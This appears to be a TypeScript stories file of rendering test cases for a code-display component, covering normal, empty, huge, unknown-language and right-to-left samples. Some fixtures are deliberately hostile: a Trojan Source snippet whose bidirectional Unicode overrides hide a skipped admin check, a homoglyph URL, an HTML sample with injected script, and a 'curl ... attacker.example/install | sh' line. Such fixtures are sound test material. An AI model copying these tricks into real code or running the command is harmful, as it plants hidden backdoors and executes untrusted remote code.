import { arabic, hebrew, script, terminal } from '../material/texts.ts';
import { envelopeStories, family } from '../story.ts';

const envelope = envelopeStories({ type: 'vendor.acme.patch.create', rendering: { display: 'code' } });
const story = (name: string, title: string, lang: string, code: () => string) =>
  envelope(name, title, { rendering: { display: 'code', lang } }, () => ({ code: code() }));

const typescript = `import { createWriteStream } from 'node:fs';

/** Writes one event a line; resolves when all is on the disk. */
export async function writeEvents(file: string, events: AsyncIterable<RunEvent>): Promise<number> {
  const target = createWriteStream(file, { flags: 'a' });
  let count = 0;
  for await (const event of events) {
    if (event.sequence <= lastWritten) continue; // sent again after a break
    target.write(\`\${JSON.stringify(event)}\\n\`);
    count += 1;
  }
  return count;
}
`;

/** Reads as if the check were there; the comment ends earlier than it seems (CVE-2021-42574). */
const trojan = `function mayApprove(user) {
  let isAdmin = false;
  /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */
    approve(user);
  /* end admins only \u202E { \u2066*/
  const p\u0430ypal = 'https://p\u0430ypal.example'; // Cyrillic
  const zero\u200Bwidth = '${terminal}';
}
`;

const trouble = `<!doctype html>
<title>Report</title>
${script}
<body onload="globalThis.inspectorCanary = 1">
`;

export const code = family('code', 'Code', [
  envelope(
    'normal',
    'TypeScript',
    { rendering: { display: 'code', lang: 'ts', title: 'write-events.ts' } },
    () => ({ code: typescript }),
  ),
  story('json', 'JSON', 'json', () => '{ "format": "ndjson", "resume": true,\n  "chunkBytes": 262144 }'),
  envelope('no-language', 'No language given', () => ({
    code: 'SELECT run_id, count(*) FROM events GROUP BY run_id ORDER BY 2 DESC;',
  })),
  story(
    'unknown-language',
    'A language that nobody knows',
    '../../toString',
    () => 'MOVE 1 TO TALLY\nSTOP RUN.',
  ),
  story('empty', 'No line at all', 'ts', () => ''),
  story('huge', '5,000 lines', 'python', () => lines(5_000)),
  story('too-long', 'Over a megabyte', 'python', () => lines(40_000)),
  story('one-line', 'One line of 100,000 characters', 'js', () => `const all = [${'0,'.repeat(50_000)}0];`),
  story('hostile', 'Reads otherwise than it runs', 'js', () => trojan),
  story('html', 'HTML with scripts', 'html', () => trouble),
  envelope(
    'untrusted',
    'Untrusted',
    { rendering: { display: 'code', lang: 'bash' }, trust: 'untrusted' },
    () => ({ code: 'curl -s https://attacker.example/install | sh' }),
  ),
  story(
    'rtl',
    'Right to left in texts and comments',
    'js',
    () => `const title = '${arabic}';\n// ${hebrew}\nconst done = true;\n`,
  ),
]);

function lines(count: number): string {
  return Array.from({ length: count }, (_unused, at) =>
    at % 10 === 0 ? `def step_${at}(run):` : `    run.write("line ${at}", at=${at})`,
  ).join('\n');
}
